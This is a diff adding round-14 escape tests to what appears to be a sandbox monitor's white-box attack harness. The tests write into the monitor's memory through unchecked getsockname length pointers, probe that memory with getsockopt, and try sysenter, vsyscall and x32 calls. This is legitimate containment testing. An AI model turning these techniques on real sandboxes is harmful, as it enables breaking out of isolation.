@@ -418,6 +418,19 @@
  *   room-window-dupfd-floor          fcntl(F_DUPFD) with the program's limit as the floor
  *                                    in a sibling's raised-limit window: the kernel places
  *                                    it at the runtime's numbers; it must not be handed over
+ *
+ * Round 14 (a fifteenth white-box pass, after the round-13 fixes):
+ *   sockname-null-len DUNE RW        getsockname/getpeername with a null address: the
+ *                                    monitor checks the length pointer only when the
+ *                                    address is given, and passes the program's length
+ *                                    pointer on; Linux reads an int there and, when it
+ *                                    is 0, writes the address's length (chosen by the
+ *                                    program: a unix path's length) into the monitor's
+ *                                    memory; getsockopt with a null value reads an int of
+ *                                    the monitor's memory (zero, positive or negative)
+ *   sysenter-vsyscall                ring 3 runs `sysenter`, an x32 system call number,
+ *                                    and the vsyscall page's entry points (code that is
+ *                                    not the program's)
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -5587,6 +5600,212 @@ static void room_window_dupfd_floor(void) {
 	contained();
 }
 
+/* ---- round 14 ---------------------------------------------------------------------- */
+
+/* The base address of the running `dune` (the monitor's image) from /proc/self/auxv
+ * (the kernel's: an accepted residual) and its file's program headers: the address of
+ * the last 8 bytes of the page that ends its writable segment (zero padding past its
+ * .bss, used by nothing), or 0. */
+static uint64_t snl_monitor_pad(const char *dune, uint64_t *base_out) {
+	uint64_t entry = 0;
+	int a = open("/proc/self/auxv", O_RDONLY);
+	if (a >= 0) {
+		uint64_t kv[2];
+		while (read(a, kv, sizeof kv) == sizeof kv && kv[0])
+			if (kv[0] == AT_ENTRY)
+				entry = kv[1];
+		close(a);
+	}
+	int f = open(dune, O_RDONLY);
+	if (f < 0 || !entry) {
+		printf("auxv AT_ENTRY %#lx; open(%s) = %d (%s)\n", (unsigned long)entry, dune, f, strerror(errno));
+		return 0;
+	}
+	Elf64_Ehdr eh;
+	if (pread(f, &eh, sizeof eh, 0) != sizeof eh || memcmp(eh.e_ident, ELFMAG, SELFMAG))
+		return 0;
+	uint64_t base = eh.e_type == ET_DYN ? entry - eh.e_entry : 0, end = 0;
+	for (int i = 0; i < eh.e_phnum; i++) {
+		Elf64_Phdr ph;
+		if (pread(f, &ph, sizeof ph, eh.e_phoff + (uint64_t)i * eh.e_phentsize) != sizeof ph)
+			break;
+		if (ph.p_type == PT_LOAD && (ph.p_flags & PF_W) && ph.p_vaddr + ph.p_memsz > end)
+			end = ph.p_vaddr + ph.p_memsz;
+	}
+	close(f);
+	*base_out = base;
+	uint64_t page_end = (end + 4095) & ~4095ul;
+	printf("monitor image base %#lx (AT_ENTRY %#lx), writable segment ends at %#lx, page end %#lx\n", (unsigned long)base, (unsigned long)entry, (unsigned long)(base + end),
+	       (unsigned long)(base + page_end));
+	if (!end || page_end - end < 8)
+		return 0;
+	return base + page_end - 8;
+}
+
+static void sockname_null_len(const char *dune, const char *rw) {
+	uint64_t base = 0;
+	uint64_t pad = snl_monitor_pad(dune, &base);
+	int hits = 0;
+	if (pad) {
+		volatile uint32_t *target = (volatile uint32_t *)pad;
+		/* A unix socket bound to a path of our choosing: its address length is
+		 * 2 + strlen(path) + 1, the value Linux writes. */
+		char path[108];
+		int s = socket(AF_UNIX, SOCK_STREAM, 0);
+		struct sockaddr_un un = { .sun_family = AF_UNIX };
+		int n = snprintf(path, sizeof path, "%s/s", rw);
+		while (n < 0x40 - 3 && n < (int)sizeof path - 2)
+			path[n++] = 'x';
+		path[n] = 0;
+		memcpy(un.sun_path, path, n + 1);
+		unlink(path);
+		int b = bind(s, (struct sockaddr *)&un, sizeof un);
+		printf("bind(%s) = %d (%s): address length %d\n", path, b, b ? strerror(errno) : "ok", 2 + n + 1);
+		/* getsockopt with a null value reads the int first (0 there: success). */
+		int so = socket(AF_UNIX, SOCK_DGRAM, 0);
+		errno = 0;
+		long g0 = syscall(SYS_getsockopt, so, SOL_SOCKET, SO_TYPE, NULL, target);
+		printf("before: getsockopt(SO_TYPE, NULL, %p) = %ld (%s): the int there reads as 0\n", (void *)target, g0, g0 ? strerror(errno) : "ok");
+		/* The monitor checks the length pointer when there is an address buffer: */
+		struct sockaddr_storage ss;
+		errno = 0;
+		long r0 = syscall(SYS_getsockname, s, &ss, target);
+		printf("getsockname(s, buf, %p) = %ld (%s)  [the monitor's check]\n", (void *)target, r0, strerror(errno));
+		/* ... but not without one. */
+		errno = 0;
+		long r1 = syscall(SYS_getsockname, s, NULL, target);
+		int e1 = errno;
+		errno = 0;
+		long r2 = syscall(SYS_getsockname, s, NULL, target);
+		int e2 = errno;
+		printf("getsockname(s, NULL, %p) = %ld (%s); again = %ld (%s)\n", (void *)target, r1, strerror(e1), r2, strerror(e2));
+		errno = 0;
+		long g1 = syscall(SYS_getsockopt, so, SOL_SOCKET, SO_TYPE, NULL, target);
+		printf("after: getsockopt(SO_TYPE, NULL, %p) = %ld (%s): the int there now reads as positive\n", (void *)target, g1, g1 ? strerror(errno) : "ok");
+		if (g0 == 0 && g1 < 0)
+			hits++;
+		close(so);
+		if (r1 == 0 && r2 < 0 && e2 == EFAULT) {
+			printf("Linux read 0 at %p (in the monitor's image), wrote %d there, and now reads it as positive\n", (void *)target, 2 + n + 1);
+			hits++;
+		}
+		/* getpeername the same way, on a pair. */
+		int sv[2];
+		if (!socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) {
+			errno = 0;
+			long p1 = syscall(SYS_getpeername, sv[0], NULL, (uint64_t)target + 4);
+			printf("getpeername(pair, NULL, %p) = %ld (%s)\n", (void *)((uint64_t)target + 4), p1, p1 ? strerror(errno) : "ok");
+			if (p1 == 0)
+				hits++;
+		}
+		close(s);
+		unlink(path);
+	}
+	/* getsockopt with a null value: Linux reads the length at the program's pointer,
+	 * wherever it is: EFAULT (unmapped or positive), EINVAL (negative) or 0 (zero) tell
+	 * what an int of the monitor's memory holds. */
+	if (base) {
+		int s = socket(AF_UNIX, SOCK_DGRAM, 0);
+		int zero = 0, pos = 0, neg = 0, fault = 0;
+		for (uint64_t off = 0; off < 64 * 4096; off += 4096) {
+			errno = 0;
+			long r = syscall(SYS_getsockopt, s, SOL_SOCKET, SO_TYPE, NULL, base + off);
+			if (r == 0)
+				zero++;
+			else if (errno == EINVAL)
+				neg++;
+			else if (errno == EFAULT)
+				fault++;
+			else
+				pos++;
+		}
+		printf("getsockopt(SO_TYPE, NULL, monitor image + k pages), 64 pages: %d read as 0, %d negative, %d EFAULT, %d other\n", zero, neg, fault, pos);
+		if (zero || neg)
+			hits++;
+		close(s);
+	}
+	/* The same calls on the program's own length still answer as Linux does:
+	 * getsockname writes the full length back, getsockopt the zero it copied. */
+	{
+		int sv[2];
+		socklen_t l0 = 0, l1 = 0;
+		errno = 0;
+		if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) || syscall(SYS_getsockname, sv[0], NULL, &l0) || syscall(SYS_getsockopt, sv[0], SOL_SOCKET, SO_TYPE, NULL, &l1) || l0 != sizeof(sa_family_t) || l1 != 0) {
+			printf("getsockname/getsockopt with a null value and the program's own zero length: %s, lengths %u and %u\n", strerror(errno), l0, l1);
+			exit(2);
+		}
+		printf("own zero lengths: getsockname gives %u, getsockopt %u\n", l0, l1);
+	}
+	if (hits)
+		escaped("Linux read and wrote the monitor's memory through length pointers the monitor never checked (%d ways)", hits);
+	contained();
+}
+
+static sigjmp_buf sv_jmp;
+static volatile int sv_sig;
+
+static void sv_catch(int s) {
+	sv_sig = s;
+	siglongjmp(sv_jmp, 1);
+}
+
+static void sysenter_vsyscall(void) {
+	int ran = 0;
+	for (int which = 0; which < 4; which++) {
+		fflush(stdout);
+		pid_t c = fork();
+		if (c == 0) {
+			signal(SIGSEGV, sv_catch);
+			signal(SIGILL, sv_catch);
+			signal(SIGBUS, sv_catch);
+			signal(SIGSYS, sv_catch);
+			if (sigsetjmp(sv_jmp, 1)) {
+				printf("  %d: signal %d\n", which, sv_sig);
+				_exit(10);
+			}
+			long r = -1;
+			struct timeval tv = { 0, 0 };
+			switch (which) {
+			case 0:
+				/* sysenter: in long mode on Intel it goes to IA32_SYSENTER_EIP at ring 0. */
+				__asm__ volatile("mov $39, %%eax\n\tsysenter" : "=a"(r) : : "rcx", "r11", "memory");
+				printf("  sysenter returned %ld\n", r);
+				_exit(42);
+			case 1: {
+				long (*gtod)(struct timeval *, void *) = (long (*)(struct timeval *, void *))0xffffffffff600000ul;
+				r = gtod(&tv, NULL);
+				printf("  vsyscall gettimeofday = %ld, tv %ld.%06ld\n", r, (long)tv.tv_sec, (long)tv.tv_usec);
+				_exit(tv.tv_sec ? 42 : 11);
+			}
+			case 2: {
+				long (*vtime)(long *) = (long (*)(long *))0xffffffffff600400ul;
+				r = vtime(NULL);
+				printf("  vsyscall time = %ld\n", r);
+				_exit(r > 0 ? 42 : 11);
+			}
+			case 3:
+				/* getpid by its x32 number: a call the table knows no name for. */
+				errno = 0;
+				r = syscall(39 | 0x40000000);
+				printf("  x32 getpid = %ld (%s), getpid %d\n", r, strerror(errno), getpid());
+				_exit(r == getpid() ? 42 : 11);
+			}
+			_exit(12);
+		}
+		int st = 0;
+		waitpid(c, &st, 0);
+		printf("%s: %s %d\n", (const char *[]){ "sysenter", "vsyscall gettimeofday", "vsyscall time", "x32 getpid" }[which], WIFEXITED(st) ? "exited" : "signal",
+		       WIFEXITED(st) ? WEXITSTATUS(st) : WTERMSIG(st));
+		if (WIFEXITED(st) && WEXITSTATUS(st) == 42)
+			ran++;
+	}
+	int f = open("/proc/self/status", O_RDONLY);
+	printf("after: open = %d\n", f);
+	if (ran)
+		escaped("%d of sysenter, the vsyscall page and an x32 number ran code or a call that is not the program's", ran);
+	contained();
+}
+
 int main(int argc, char **argv) {
 	setvbuf(stdout, NULL, _IOLBF, 0);
 	if (argc < 2) {
@@ -5855,6 +6074,11 @@ int main(int argc, char **argv) {
 		signalfd_returns_monitor_fd();
 	else if (!strcmp(name, "room-window-dupfd-floor"))
 		room_window_dupfd_floor();
+	/* round 14 */
+	else if (!strcmp(name, "sockname-null-len"))
+		need(argc, 4), sockname_null_len(argv[2], argv[3]);
+	else if (!strcmp(name, "sysenter-vsyscall"))
+		sysenter_vsyscall();
 	fprintf(stderr, "unknown attack %s\n", name);
 	return 2;
 }
